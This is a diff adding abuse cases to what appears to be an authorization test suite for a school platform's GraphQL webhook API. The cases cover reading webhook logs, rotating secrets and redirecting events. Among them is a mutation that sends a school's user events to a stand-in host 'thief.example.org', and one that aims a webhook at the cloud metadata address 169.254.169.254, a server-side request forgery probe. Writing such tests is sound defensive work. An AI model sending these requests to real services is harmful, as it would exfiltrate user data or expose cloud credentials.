@@ -113,6 +113,32 @@ const CASES: readonly AbuseCase[] = [
     variables: ({ apiToken: id }) => ({ id }),
   },
   {
+    name: 'reads the log of a webhook',
+    may: SCHOOL,
+    query: 'query ($id: ID!) { webhookLog(id: $id) { deliveries { data } } }',
+    variables: ({ webhook: id }) => ({ id }),
+  },
+  {
+    name: 'sends the events of a school to another address',
+    may: SCHOOL,
+    query: `mutation ($id: ID!) { updateWebhook(
+      id: $id, url: "https://thief.example.org/hook", description: "", kinds: ["user.created"]) }`,
+    variables: ({ webhook: id }) => ({ id }),
+  },
+  {
+    name: 'replaces the secret of a webhook',
+    may: SCHOOL,
+    query: 'mutation ($id: ID!) { rotateWebhookSecret(id: $id) }',
+    variables: ({ webhook: id }) => ({ id }),
+  },
+  {
+    name: 'points a webhook at the network of the server',
+    may: NONE,
+    refused: ['INVALID_INPUT', 'FORBIDDEN'],
+    query: `mutation { createWebhook(
+      url: "https://169.254.169.254/latest/meta-data", description: "", kinds: ["user.created"]) { secret } }`,
+  },
+  {
     name: 'reads a user of a school',
     may: SCHOOL,
     query: 'query ($id: ID!) { user(id: $id) { email } }',
